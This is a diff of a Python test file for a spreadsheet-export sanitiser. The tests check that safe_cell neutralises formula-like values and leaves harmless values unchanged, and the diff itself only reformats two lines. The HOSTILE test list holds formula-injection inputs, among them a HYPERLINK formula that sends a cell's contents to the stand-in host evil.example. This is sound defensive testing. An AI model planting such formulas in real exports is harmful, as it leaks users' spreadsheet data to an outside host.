@@ -8,7 +8,7 @@ from openpyxl import load_workbook
 from halls.exports import Sheet, read_workbook_rows, safe_cell, workbook_bytes
 
 HOSTILE = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+1",
     "-2+3",
     "@SUM(1,2)",
@@ -25,7 +25,9 @@ def test_text_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe(value):
 
 def test_harmless_values_pass_through():
     assert safe_cell("张三 = 李四") == "张三 = 李四"
-    assert safe_cell(-5) == -5 and safe_cell(3.5) == 3.5 and safe_cell(None) is None and safe_cell(True) is True
+    assert (
+        safe_cell(-5) == -5 and safe_cell(3.5) == 3.5 and safe_cell(None) is None and safe_cell(True) is True
+    )
     shanghai = datetime(2026, 11, 27, 10, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
     assert safe_cell(shanghai) == datetime(2026, 11, 27, 10, 0)
 
